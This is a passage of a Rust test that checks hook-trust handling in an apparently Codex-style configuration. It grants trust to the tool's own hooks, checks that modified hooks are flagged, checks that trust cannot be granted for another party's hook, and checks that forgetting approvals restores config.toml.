    let ours = listed.iter().filter(|hook| hook.is_ours(&machine.places));
    let keys: Vec<String> = ours.map(|hook| hook.key.clone()).collect();
    assert_eq!(keys.len(), 2);
    codex_trust::grant(&codex, &machine.places, &shop, OURS, &keys).unwrap();
    let trusted = |hook: &&Listed| hook.status == Status::Trusted;
    assert_eq!(
        list().iter().filter(trusted).map(|hook| hook.key.clone()).collect::<Vec<_>>(),
        keys
    );
    let stored = codex_trust::stored(&machine.state());
    assert_eq!(stored.iter().filter(|hook| hook.status == Status::Approved).count(), 2);

    let changed = hooks_json(&events).replace("30", "31");
    fs::write(&file, changed).unwrap();
    assert_eq!(list().iter().filter(|hook| hook.status == Status::Modified).count(), 2);
    let error =
        codex_trust::grant(&codex, &machine.places, &shop, "theirs", &[listed[2].key.clone()]);
    assert!(error.is_err());

    let approved = machine.read("home/.codex/config.toml");
    assert_eq!(codex_trust::forget(&approved, &keys).as_deref(), Some(toml));
    let mut left: Vec<String> = fs::read_dir(machine.path("home/.codex"))
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    left.sort();
    assert_eq!(left, ["config.toml", "hooks.json", "installation_id"]);
}
